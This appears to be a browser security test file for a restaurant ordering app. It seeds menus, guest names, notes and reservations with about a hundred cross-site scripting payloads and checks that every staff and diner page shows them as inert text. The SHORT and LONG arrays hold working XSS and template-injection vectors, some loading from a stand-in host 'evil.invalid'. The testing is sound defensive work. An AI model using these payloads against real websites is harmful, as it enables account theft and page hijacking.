/** A hundred pieces of markup and programs as names, notes and reasons, on every page: text all of them, and nothing runs. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { newId, openHouse } from "./house.mjs";
import { isPlain, tablesOf } from "./menu.mjs";
import { Diner, Screen, openBrowser } from "./people.mjs";

const limit = { timeout: 120_000 };
/** Short enough for a guest's name (24 characters), and each in its own way out of a text or an attribute. */
const SHORT = [
  "<img src onerror=xss()>",
  "<svg onload=xss()>",
  "<svg/onload=xss()>",
  "<body onload=xss()>",
  "<b onclick=xss()>x",
  "'onload='xss()",
  '"onload="xss()',
  "\"><svg onload=xss()>",
  "'><svg onload=xss()>",
  "--><svg onload=xss()>",
  "<a href=javascript:xss()",
  "javascript:xss()",
  "{{xss()}}",
  "<a onblur=xss() id=x>",
  "${xss()}",
  "<%= xss() %>",
  "#{xss()}",
  "`-xss()-`",
  "';xss();'",
  '";xss();"',
  "\\';xss();//",
  "</p><svg onload=xss()>",
  "&lt;svg onload=xss()&gt;",
  "&#60;svg/onload=xss()>",
];
/** Up to 60 characters, for dishes, notes and reasons. */
const LONG = [
  "<script>xss()</script>",
  "</script><script>xss()</script>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<SCRIPT SRC=data:text/javascript,xss()></SCRIPT>",
  "<script src=//evil.invalid/x.js></script>",
  "<img src=x onerror=xss()>",
  "<IMG SRC=x OnErRoR=xss()>",
  "<img/src/onerror=xss()>",
  "<img src=x onerror=\"xss()\"",
  "<img src=`x`onerror=xss()>",
  "<img src=data:image/png,x onerror=xss()>",
  "<image src=x onerror=xss()>",
  "<picture><source srcset=x><img onerror=xss() src=x>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:xss()><text y=9>x</text></a>",
  "<svg><set attributeName=onload to=xss()>",
  "<svg><use href=data:image/svg+xml,x onload=xss()>",
  "<math><mi xlink:href=javascript:xss()>x</mi></math>",
  "<iframe src=javascript:xss()></iframe>",
  "<iframe srcdoc=\"<script>parent.xss()</script>\">",
  "<iframe onload=xss()></iframe>",
  "<object data=javascript:xss()></object>",
  "<embed src=javascript:xss()>",
  "<video><source onerror=xss()></video>",
  "<video src=x onerror=xss()></video>",
  "<audio src=x onerror=xss()></audio>",
  "<details open ontoggle=xss()>x</details>",
  "<marquee onstart=xss()>x</marquee>",
  "<input autofocus onfocus=xss()>",
  "<select autofocus onfocus=xss()>",
  "<textarea autofocus onfocus=xss()>",
  "<button autofocus onfocus=xss()>x",
  "<form action=javascript:xss()><button>x",
  "<form><button formaction=javascript:xss()>x",
  "<isindex type=image src=1 onerror=xss()>",
  "<link rel=stylesheet href=javascript:xss()>",
  "<link rel=prefetch href=//evil.invalid/>",
  "<meta http-equiv=refresh content=0;url=javascript:xss()>",
  "<base href=//evil.invalid/>",
  "<style>@import'javascript:xss()';</style>",
  "<style onload=xss()></style>",
  "<div style=\"background:url(javascript:xss())\">",
  "<div style=animation-name:x onanimationstart=xss()>",
  "<x onpointerenter=xss() style=position:fixed;inset:0>",
  "<x contenteditable autofocus onfocus=xss() tabindex=1>",
  "<template><script>xss()</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
  "<!--><img src=x onerror=xss()>-->",
  "<![CDATA[><img src=x onerror=xss()>]]>",
  "<?xml ?><svg onload=xss()>",
  "\"><script>xss()</script>",
  "'><script>xss()</script>",
  "</title><script>xss()</script>",
  "</textarea><script>xss()</script>",
  "</style><script>xss()</script>",
  "\" onmouseover=xss() x=\"",
  "' onmouseover=xss() x='",
  "\" autofocus onfocus=xss() \"",
  "javascript:/*--></title></style></textarea></script>xss()",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(xss())//",
  "&#x6A;avascript:xss()",
  "java&Tab;script:xss()",
  "data:text/html,<script>parent.xss()</script>",
  "vbscript:xss()",
  "\\x3cscript\\x3exss()\\x3c/script\\x3e",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "%3Cscript%3Exss()%3C/script%3E",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "＜script＞xss()＜/script＞",
  "{{constructor.constructor('xss()')()}}",
  "{{$on.constructor('xss()')()}}",
  "${{xss()}} #{xss()} <%xss()%>",
  "__proto__",
  "constructor",
  "[object Object]",
  "]]></script><script>xss()</script>",
  "'-xss()-'",
  "\"-xss()-\"",
];
const ALL = [...SHORT, ...LONG];
const names = (length) => SHORT.filter((text) => text.length <= length);
const everybody = [];
const hits = [];
let house, browser, owner, device, menu, floor, party;

before(async () => {
  assert.ok(ALL.length >= 100, `${ALL.length}`);
  house = await openHouse();
  browser = await openBrowser();
  device = await house.deviceToken();
  owner = await house.staffToken(device, house.staff("owner"));
  const sold = await house.call("GET", "/menu", owner);
  floor = await house.call("GET", "/floor", owner);
  menu = await poisonMenu(sold);
  party = await poisonHouse();
}, limit);

after(async () => {
  await browser?.close();
  await house?.close();
}, limit);

/** The menu on sale, with every name and description somebody else's words. */
async function poisonMenu(sold) {
  const { hash: _, ...next } = structuredClone(sold);
  let at = 0;
  const word = (most) => {
    for (;;) {
      const text = ALL[at++ % ALL.length];
      if (text.length <= most) return text;
    }
  };
  const poison = (text, most = 60) => Object.assign(text, { zh: word(most), en: word(most) });
  next.version = sold.version + 1;
  for (const part of [...next.stations, ...next.categories]) poison(part.name);
  for (const dish of next.dishes) {
    poison(dish.name);
    dish.description = poison({ zh: "", en: "" });
    for (const variant of dish.variants.length > 1 ? dish.variants : []) poison(variant.name);
    for (const group of [...dish.groups, ...dish.set_groups]) {
      poison(group.name);
      for (const option of group.options ?? []) poison(option.name);
    }
  }
  await house.call("POST", "/menu", owner, next);
  return next;
}

/** Parties, orders, people, devices, reservations and reasons, all with such words; the party that ordered. */
async function poisonHouse() {
  const [table, second, third] = tablesOf(floor, "pay_later");
  let first = null;
  for (const [n, name] of names(24).slice(0, 8).entries()) {
    const joined = await house.call("POST", "/sessions/join", null, { code: house.linkOf(n < 6 ? table : second).code, guest: newId(), name, covers: 2, session: newId() });
    first ??= joined;
    const dish = menu.dishes.filter(isPlain)[n % 5];
    const asked = (note) => ({ line: newId(), dish: dish.id, variant: dish.variants[0].id, quantity: 1, weight_g: null, options: [], set: [], note });
    const lines = LONG.slice(n * 10, n * 10 + 8).map(asked);
    const quote = await house.call("POST", `/sessions/${joined.session}/quote`, joined.token, { lines });
    const priced = lines.map((line) => ({ ...line, ...pricesOf(quote, line) }));
    const order = newId();
    const total = priced.reduce((sum, line) => sum + line.amount, 0);
    await house.call("POST", `/sessions/${joined.session}/orders`, joined.token, { order, menu_version: quote.menu_version, total, lines: priced, note: LONG[n] }, order);
    await house.call("POST", `/sessions/${joined.session}/cart/lines`, joined.token, { line: asked(LONG[n + 8]) });
    await house.call("POST", `/sessions/${joined.session}/lines/${lines[0].line}/rush`, joined.token, {}).catch(() => undefined);
  }
  const post = (path, body) => house.call("POST", path, owner, body);
  await post(`/tables/${third.id}/lock`, { reason: LONG[0] });
  const soon = Date.now() + 3_600_000;
  for (const [n, name] of names(24).slice(8, 12).entries()) {
    await post("/reservations", { reservation: newId(), name, covers: 2, for_when: soon + n * 60_000, note: LONG[n + 5] }).catch(() => post("/reservations", { reservation: newId(), name, covers: 2, for_when: soon + n * 60_000 }));
    await post("/queue", { entry: newId(), covers: 2, name }).catch(() => post("/queue", { entry: newId(), covers: 2 }));
    await post(`/people/xss${n}`, { name, role: "waiter", pin: "2468" });
    const { code } = await post("/devices/pairing-codes", {});
    await house.call("POST", "/devices/pair", null, { code, name: SHORT[n + 12].slice(0, 24) });
  }
  await post("/approvals", { approval: newId(), act: { act: "comp", session: first.session, line: (await firstLine(first)).line }, reason: LONG[3] });
  return { table, joined: first };
}

const pricesOf = (quote, line) => {
  const { unit_price, amount } = quote.lines.find((l) => l.line === line.line);
  return { unit_price, amount };
};

async function firstLine({ session, token }) {
  const view = await house.call("GET", `/sessions/${session}`, token);
  return view.orders[0].lines[0];
}

/** Watches a page: what runs without having been asked to, and what the browser would not let run. */
async function watch(person) {
  everybody.push(person);
  await person.page.exposeFunction("xss", () => hits.push(`${person.name}: ran`));
  person.page.on("dialog", async (dialog) => {
    hits.push(`${person.name}: ${dialog.type()} ${dialog.message()}`);
    await dialog.dismiss();
  });
  person.page.on("request", (request) => {
    if (request.url().includes("evil.invalid")) hits.push(`${person.name}: asked ${request.url()}`);
  });
  await person.page.addInitScript(() => {
    globalThis.refusedByPolicy = [];
    document.addEventListener("securitypolicyviolation", (e) => globalThis.refusedByPolicy.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
  });
  return person;
}

/** Nothing ran, nothing wanted to, and no element came out of a text. */
async function isClean(person, where) {
  const found = await person.page.evaluate(() => {
    const handlers = [...document.querySelectorAll("*")].filter((e) => e.getAttributeNames().some((name) => name.startsWith("on")));
    const strange = [...document.querySelectorAll("iframe, object, embed, base, math, marquee, script:not([src]), [href^='javascript' i], [src^='javascript' i], [srcdoc]")];
    return { elements: [...handlers, ...strange].map((e) => e.outerHTML.slice(0, 120)), refused: globalThis.refusedByPolicy };
  });
  assert.deepEqual({ hits, ...found }, { hits: [], elements: [], refused: [] }, `${person.name}, ${where}`);
}

/** Opens what a page has to open: each of its tabs, and some of its rows. */
async function wander(person, selectors) {
  for (const selector of selectors) {
    const buttons = person.page.locator(`${selector}:visible`);
    for (let n = 0; n < Math.min(await buttons.count(), selector.endsWith("nav button") ? 9 : 4); n++) {
      // Without waiting until it could be tapped: some lie below others.
      await buttons.nth(n).evaluate((button) => button.click(), undefined, { timeout: 500 }).catch(() => undefined);
      await person.page.waitForTimeout(60);
      await isClean(person, `${selector} ${n}`);
    }
  }
}

async function reads(person, text) {
  // Old pages stay in the document, hidden.
  await person.page.getByText(text).locator("visible=true").first().waitFor();
}

function part(name, steps) {
  test(name, limit, async () => {
    try {
      await steps();
      assert.deepEqual(everybody.flatMap((person) => person.errors), []);
    } catch (error) {
      for (const person of everybody) await person.keepPicture();
      throw error;
    }
  });
}

// Without its policy the browser would run whatever became markup; with it, it would tell. Both have to be silent.
for (const bypassCSP of [true, false]) {
  const how = bypassCSP ? "without the policy" : "with the policy";

  part(`the staff's pages show it all as text, ${how}`, async () => {
    const person = new Screen();
    person.name = `xss staff ${bypassCSP}`;
    person.context = await browser.newContext({ locale: "zh-CN", timezoneId: "Asia/Shanghai", viewport: { width: 1400, height: 900 }, bypassCSP });
    await person.open();
    await watch(person);
    const { code } = await house.call("POST", "/devices/pairing-codes", owner, {});
    await person.page.goto(`${house.facts.staff_url ?? `${house.url}/staff/`}#/pair?store=${house.facts.store}&code=${code}`);
    await person.page.getByRole("button", { name: "绑定", exact: true }).click();
    await person.page.getByText("你是谁？").waitFor();
    await isClean(person, "sign-in");
    await reads(person, names(24)[8]);
    await person.signIn(house.staff("owner"));
    await person.page.waitForFunction(() => !location.hash.includes("sign-in"));
    for (const [page, selectors] of [
      ["kitchen", [".kturn button", "nav button"]],
      ["expo", []],
      ["pickup", []],
      ["floor", [`.table[data-table="${party.table.id}"]`, ".ptake", ".fcats button", ".fbar nav button"]],
      ["manage", [".mnav button"]],
      ["code", []],
    ]) {
      await person.page.evaluate((hash) => (location.hash = hash), `#/${page}`);
      await person.page.waitForTimeout(300);
      await isClean(person, page);
      if (bypassCSP) await wander(person, selectors);
    }
    await person.page.evaluate(() => (location.hash = "#/kitchen"));
    await reads(person, LONG[0]);
  });

  part(`the diners' pages show it all as text, ${how}`, async () => {
    const person = new Diner();
    person.name = `xss diner ${bypassCSP}`;
    person.context = await browser.newContext({ locale: "zh-CN", timezoneId: "Asia/Shanghai", viewport: { width: 360, height: 780 }, isMobile: true, hasTouch: true, bypassCSP });
    await person.open();
    await watch(person);
    await person.page.goto(house.linkOf(party.table).url);
    await person.see("#guest-name").locator("input").fill(SHORT[bypassCSP ? 13 : 14].slice(0, 24));
    await isClean(person, "enter");
    await person.page.locator("#sit-down:visible, #covers-2:visible").first().click();
    await person.see("#cart").waitFor();
    await isClean(person, "menu");
    for (let n = 0; n < 6; n++) {
      await person.page.mouse.move(180, 400);
      await person.page.mouse.wheel(0, 900);
      await person.page.waitForTimeout(60);
    }
    await isClean(person, "further down the menu");
    await person.tap("#cart");
    await person.see("#cart-sheet").waitFor();
    await isClean(person, "cart");
    await person.tap("#cart-sheet-close");
    await person.tap("#to-status");
    await person.see(".order").waitFor();
    await isClean(person, "status");
    await reads(person, LONG[1]);
    const { code, url } = await house.call("GET", `/sessions/${party.joined.session}/pay-code`, party.joined.token);
    await person.page.goto(url ?? `${house.url}/p/${code}`);
    await person.page.locator("h1").waitFor();
    await isClean(person, "pay page");
  });
}

// A watch that never barks proves nothing.
test("what runs is seen, and what the policy stops is seen", limit, async () => {
  for (const bypassCSP of [true, false]) {
    const person = new Screen();
    person.name = "bait";
    person.context = await browser.newContext({ bypassCSP });
    await person.open();
    await watch(person);
    everybody.pop();
    await person.page.goto(`${house.url}/staff/`);
    await person.page.evaluate(() => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=xss()>"));
    await person.page.waitForTimeout(300);
    await assert.rejects(isClean(person, "bait"), /bait/);
    const refused = await person.page.evaluate(() => globalThis.refusedByPolicy.length);
    assert.deepEqual([hits.splice(0).length > 0, refused > 0], [bypassCSP, !bypassCSP]);
    await person.context.close();
  }
});

test("addresses with markup lead to pages without it", limit, async () => {
  const page = await (await browser.newContext({ bypassCSP: true })).newPage();
  await page.exposeFunction("xss", () => hits.push("an address ran"));
  for (const text of ["\"><svg onload=xss()>", "javascript:xss()"]) {
    const word = encodeURIComponent(text);
    for (const path of [`/t/${word}`, `/p/${word}`, `/staff/?x=${word}#/pair?store=${word}&code=${word}`, `/staff/#/${word}`, `/m/#/pages/enter/index?store=${word}&code=${word}`, `/m/#/pages/menu/index?session=${word}`, `/${word}`, `/p/x?note=${word}`]) {
      await page.goto(house.url + path).catch(() => undefined);
      await page.waitForTimeout(120);
    }
  }
  assert.deepEqual(hits, []);
  await page.context().close();
});
